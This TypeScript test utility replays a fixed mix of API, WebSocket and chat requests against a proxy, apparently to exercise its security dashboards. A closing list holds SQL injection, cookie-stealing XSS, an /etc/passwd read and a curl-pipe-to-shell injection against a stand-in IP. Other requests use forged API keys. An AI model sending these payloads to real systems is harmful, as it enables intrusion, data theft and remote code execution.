import { setTimeout as pause } from 'node:timers/promises';
import { WebSocket } from 'ws';

export interface Traffic {
  stop(): Promise<void>;
}

interface Visit {
  /** How often, against the sum of all weights. */
  readonly weight: number;
  go(visitor: Visitor): Promise<unknown>;
}

interface Visitor {
  readonly proxyUrl: string;
  readonly key: string;
  readonly number: number;
  readonly signal: AbortSignal;
}

const visitMs = 120;
const maxOpenVisits = 16;

/** A stream of realistic requests, attacks among them, until it is stopped. The same order each time. */
export function startTraffic(proxyUrl: string, key: string): Traffic {
  const stopping = new AbortController();
  const open = new Set<Promise<unknown>>();

  async function run(): Promise<void> {
    for (let number = 1; !stopping.signal.aborted; number += 1) {
      // Whatever a visit meets (refusals, a backend that is away) is what the dashboards are there to show.
      const visit = visitFor(number)
        .go({ proxyUrl, key, number, signal: stopping.signal })
        .catch(() => undefined);
      open.add(visit);
      void visit.then(() => open.delete(visit));
      if (open.size >= maxOpenVisits) await Promise.race(open);
      await pause(visitMs, undefined, { signal: stopping.signal }).catch(() => undefined);
    }
  }

  const running = run();
  return {
    async stop() {
      stopping.abort();
      await running;
      await Promise.allSettled(open);
    },
  };
}

function visitFor(number: number): Visit {
  const total = visits.reduce((sum, { weight }) => sum + weight, 0);
  // A multiplicative walk spreads the kinds of visit evenly without randomness.
  let left = (number * 37) % total;
  for (const visit of visits) {
    left -= visit.weight;
    if (left < 0) return visit;
  }
  throw new Error('The weights of the visits do not add up.');
}

const visits: readonly Visit[] = [
  { weight: 24, go: (visitor) => get(visitor, `/api/agents?limit=20&offset=${(visitor.number % 9) * 20}`) },
  { weight: 20, go: (visitor) => get(visitor, `/api/agents/${1 + (visitor.number % 200)}`) },
  {
    weight: 10,
    go: (visitor) => get(visitor, `/api/workflows?limit=12&offset=${(visitor.number % 40) * 12}`),
  },
  {
    weight: 10,
    go: (visitor) => get(visitor, `/api/executions?status=${['failed', 'running'][visitor.number % 2]}`),
  },
  { weight: 8, go: (visitor) => get(visitor, `/api/executions/${1 + (visitor.number % 20_000)}/messages`) },
  { weight: 1, go: (visitor) => get(visitor, '/api/reports/usage') },
  {
    weight: 8,
    go: (visitor) => get(visitor, `/api/search?q=${encodeURIComponent(searchWord(visitor.number))}`),
  },
  { weight: 4, go: (visitor) => get(visitor, `/api/agents/${100_000 + visitor.number}`) },
  { weight: 6, go: (visitor) => post(visitor, '/api/agents', newAgent(visitor.number)) },
  {
    weight: 4,
    go: (visitor) => post(visitor, `/api/workflows/${1 + (visitor.number % 600)}/executions`, {}),
  },
  {
    weight: 8,
    go: (visitor) =>
      post(visitor, '/api/chat', { execution: 1 + (visitor.number % 90), prompt: prompt(visitor.number) }),
  },
  { weight: 2, go: watchProgress },
  { weight: 5, go: (visitor) => get(visitor, attack(visitor.number)) },
  { weight: 2, go: (visitor) => post(visitor, '/api/agents', { name: attackValue(visitor.number) }) },
  {
    weight: 2,
    go: (visitor) => get({ ...visitor, key: `or_live_${'x'.repeat(30)}${visitor.number}` }, '/api/agents'),
  },
  { weight: 1, go: (visitor) => get({ ...visitor, key: '' }, '/api/agents') },
];

async function get({ proxyUrl, key, signal }: Visitor, target: string): Promise<void> {
  const response = await fetch(proxyUrl + target, { headers: credentials(key), signal });
  await response.arrayBuffer();
}

async function post({ proxyUrl, key, signal }: Visitor, target: string, body: object): Promise<void> {
  const response = await fetch(proxyUrl + target, {
    method: 'POST',
    headers: { ...credentials(key), 'content-type': 'application/json' },
    body: JSON.stringify(body),
    signal,
  });
  await response.arrayBuffer();
}

function credentials(key: string): Record<string, string> {
  return key === '' ? {} : { authorization: `Bearer ${key}` };
}

async function watchProgress({ proxyUrl, key, number, signal }: Visitor): Promise<void> {
  const socket = new WebSocket(`${proxyUrl.replace('http', 'ws')}/ws/executions/${number}`, {
    headers: credentials(key),
  });
  const stop = (): void => socket.terminate();
  signal.addEventListener('abort', stop, { once: true });
  await new Promise<void>((resolve) => {
    socket.once('close', () => resolve());
    socket.once('error', () => resolve());
  });
  signal.removeEventListener('abort', stop);
}

const searchWords = [
  "O'Brien",
  'Agent 1',
  'select the best',
  'sales -- draft',
  'R&D',
  'union of teams',
  '10% off; today',
  '이메일',
];
const searchWord = (number: number): string => searchWords[number % searchWords.length] ?? '';

const prompts = [
  'Explain how SELECT name FROM agents WHERE id = 1 works',
  'Write a shell script that removes *.tmp files; use find, not rm -rf',
  'Why does <b>bold</b> render as text in my template?',
  'Summarise the last meeting in three bullet points',
];
const prompt = (number: number): string => prompts[number % prompts.length] ?? '';

const newAgent = (number: number): object => ({
  name: `Support agent ${number}`,
  model: 'gpt-mini',
  config: { temperature: 0.2, system: prompt(number), tools: ['search'] },
});

const attackValues = [
  "' OR '1'='1' --",
  "x' UNION SELECT 1, current_user --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  '$(curl http://203.0.113.9/x.sh | sh)',
];
const attackValue = (number: number): string => attackValues[number % attackValues.length] ?? '';
const attack = (number: number): string => `/api/search?q=${encodeURIComponent(attackValue(number))}`;
